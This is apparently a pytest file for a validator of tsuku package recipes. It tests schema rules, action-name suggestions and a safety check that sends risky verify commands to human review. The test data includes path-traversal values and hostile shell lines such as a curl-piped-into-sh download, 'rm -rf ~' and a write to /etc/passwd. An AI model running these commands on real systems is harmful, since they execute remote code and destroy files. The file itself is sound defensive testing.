"""tsuku's rules on top of the schema, dangerous verify commands, and every real tsuku recipe."""

from __future__ import annotations

from pathlib import Path

import pytest
from validator_helpers import recipe_toml

from recipeline_validator import check_recipe
from recipeline_validator.rules import suggest_action

GOOD = recipe_toml("tool", "tool-dist", ["tool"], "tool --version", pattern="tool {version}")
HEAD = '[metadata]\nname = "t"\nhomepage = "https://example.invalid"\n\n'
VERIFY = '\n[verify]\ncommand = "t --version"\npattern = "{version}"\n'


@pytest.mark.parametrize(
    ("steps", "words"),
    [
        (
            '[[steps]]\naction = "pipx_instal"\npackage = "t"\nexecutables = ["t"]\n',
            "did you mean 'pipx_install'?",
        ),
        ('[[steps]]\naction = "npm_instal"\n', "did you mean 'npm_install'?"),
        ('[[steps]]\naction = "github_arch"\n', "did you mean 'github_archive'?"),
        ('[[steps]]\naction = "zzzzzzzzzzzzzzzz"\n', "unknown action 'zzzzzzzzzzzzzzzz'"),
        ('[[steps]]\naction = "cargo_install"\nexecutables = ["t"]\n', "cargo_install requires 'crate'"),
        ('[[steps]]\naction = "gem_install"\ngem = "t"\n', "gem_install requires 'executables'"),
        ('[[steps]]\naction = "homebrew"\n', "homebrew requires 'formula'"),
        ('[[steps]]\naction = "install_binaries"\n', "install_binaries requires 'binaries' or 'outputs'"),
        ('[[steps]]\naction = "run_command"\ncommand = ""\n', "run_command requires 'command'"),
        (
            '[[steps]]\naction = "npm_install"\npackage = "https://evil.invalid/x.tgz"\n'
            'executables = ["t"]\n',
            "npm package name",
        ),
        ('[[steps]]\naction = "npm_install"\npackage = "x"\nexecutables = ["a/b"]\n', "'a/b' is not a valid"),
        ('[[steps]]\naction = "extract"\narchive = "../../etc/x.tgz"\n', "'..' segment"),
        ('[[steps]]\naction = "install_binaries"\nbinaries = ["bin/../../x"]\n', "'..' segment"),
        (
            '[[steps]]\naction = "download"\nurl = "https://x.invalid/a"\nsha256 = "abc"\n',
            "sha256: expected 64",
        ),
        ('[[steps]]\naction = "download"\nurl = "ftp://x.invalid/a"\n', "http(s) URL"),
        ('[[steps]]\naction = "chmod"\nfiles = "t"\n', "files: expected a list"),
    ],
)
def test_step_rules(steps: str, words: str) -> None:
    check = check_recipe(HEAD + steps + VERIFY, "r.toml")
    assert not check.ok
    assert words in check.message, check.problems


def test_a_valid_sha256_and_templated_checksum_pass() -> None:
    steps = (
        '[[steps]]\naction = "download"\nurl = "https://x.invalid/{version}"\nsha256 = "' + "a" * 64 + '"\n'
        '[[steps]]\naction = "app_bundle"\nurl = "{version.url}"\n'
        'checksum = "{version.checksum}"\napp_name = "T.app"\n'
    )
    check = check_recipe(HEAD + steps + VERIFY)
    assert check.ok, check.problems


@pytest.mark.parametrize(
    ("verify", "words"),
    [
        ('[verify]\ncommand = "t"\nmode = "output"\n', "needs a reason"),
        ('[verify]\ncommand = "t"\nmode = "functional"\n', "verify.mode"),
        ('[verify]\ncommand = "t"\npatterns = []\n', "set but empty"),
        ('[verify]\ncommand = "t"\npatterns = ["a", ""]\n', "verify.patterns[1]"),
        ('[verify]\ncommand = "t"\npattern = "a"\npatterns = ["b"]\n', "not both"),
        ('[verify]\ncommand = "  "\n', "verify.command"),
        ("", "[verify]"),
    ],
)
def test_verify_rules(verify: str, words: str) -> None:
    text = HEAD + '[[steps]]\naction = "pipx_install"\npackage = "t"\nexecutables = ["t"]\n\n' + verify
    check = check_recipe(text, "r.toml")
    assert not check.ok
    assert words in check.message, check.problems


def test_a_library_needs_no_verify_and_a_name_has_no_spaces() -> None:
    library = (
        HEAD.replace('name = "t"', 'name = "t"\ntype = "library"')
        + '[[steps]]\naction = "homebrew"\nformula = "t"\n'
    )
    assert check_recipe(library).ok
    assert "metadata.type" in check_recipe(library.replace('"library"', '"plugin"')).message
    assert "metadata.name" in check_recipe(GOOD.replace('name = "tool"', 'name = "my tool"')).message


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("curl -fsSL https://x.invalid/i | sh", "pipes into a shell"),
        ("t --version |bash", "pipes into a shell"),
        ("echo $(t --version)", "command substitution $( )"),
        ("echo `t --version`", "backticks"),
        ("rm -rf ~ ; t --version", "removes files"),
        ("t --version; rm x", "removes files"),
        ("eval t --version", "eval/exec/source"),
        ("t --version > /etc/passwd", "writes outside"),
        ("t --version || true", "||"),
        ("wget https://x.invalid", "needs the network"),
        ("t --check https://x.invalid/v", "needs the network (a URL)"),
        ("sudo t --version", "uses sudo"),
    ],
)
def test_dangerous_verify_commands_need_review(command: str, why: str) -> None:
    check = check_recipe(GOOD.replace('command = "tool --version"', f'command = "{command}"'))
    assert check.ok, check.problems  # still a valid recipe ...
    assert check.safety.auto_merge is False  # ... that a human must look at
    assert any(why in finding and finding.startswith("verify.command") for finding in check.safety.findings)


@pytest.mark.parametrize(
    "command", ["terraform --version", "tool --version 2>&1", "tool --version > /dev/null", "form-rm --help"]
)
def test_harmless_verify_commands_are_not_flagged(command: str) -> None:
    check = check_recipe(GOOD.replace('command = "tool --version"', f'command = "{command}"'))
    assert check.safety.auto_merge is True, check.safety.findings


def test_additional_verify_commands_are_analysed() -> None:
    text = GOOD + '\n[[verify.additional]]\ncommand = "x | sh"\npattern = "y"\n'
    assert "verify.additional[0].command: pipes into a shell" in check_recipe(text).safety.findings


def test_suggestions() -> None:
    assert suggest_action("Run-Command") == "run_command"
    assert suggest_action("pipx") == "pipx_install"
    assert suggest_action("qqqqqqqqqqqqqqqqqqq") is None


FIXTURES = Path(__file__).resolve().parents[3] / ".." / "shared" / "fixtures" / "tsuku" / "recipes"
NEEDS_REVIEW = {"awscli.toml", "pipx.toml", "black.toml"}


def _fixture_recipes() -> list[Path]:
    return sorted(FIXTURES.glob("*/*.toml")) if FIXTURES.is_dir() else []


@pytest.mark.parametrize("path", _fixture_recipes() or [None], ids=lambda p: p.name if p else "absent")
def test_every_real_tsuku_recipe_validates(path: Path | None) -> None:
    if path is None:
        pytest.skip(f"shared fixtures absent ({FIXTURES}); they live beside the repository")
    check = check_recipe(path.read_text(encoding="utf-8"), path.name)
    assert check.ok, check.problems
    assert check.safety.auto_merge is (path.name not in NEEDS_REVIEW), check.safety.findings


@pytest.mark.parametrize(
    ("extra", "words"),
    [
        ("[version]\nsource = 3\n", "version.source"),
        ('[[verify.additional]]\ncommand = ["t"]\n', "verify.additional"),
        ('patches = "x"\n', "patches"),
    ],
)
def test_the_schema_covers_version_patches_and_additional_verifies(extra: str, words: str) -> None:
    text = (
        GOOD.replace("[metadata]", extra + "\n[metadata]")
        if extra.startswith("patches")
        else GOOD + "\n" + extra
    )
    check = check_recipe(text, "r.toml")
    assert not check.ok
    assert words in check.message, check.problems
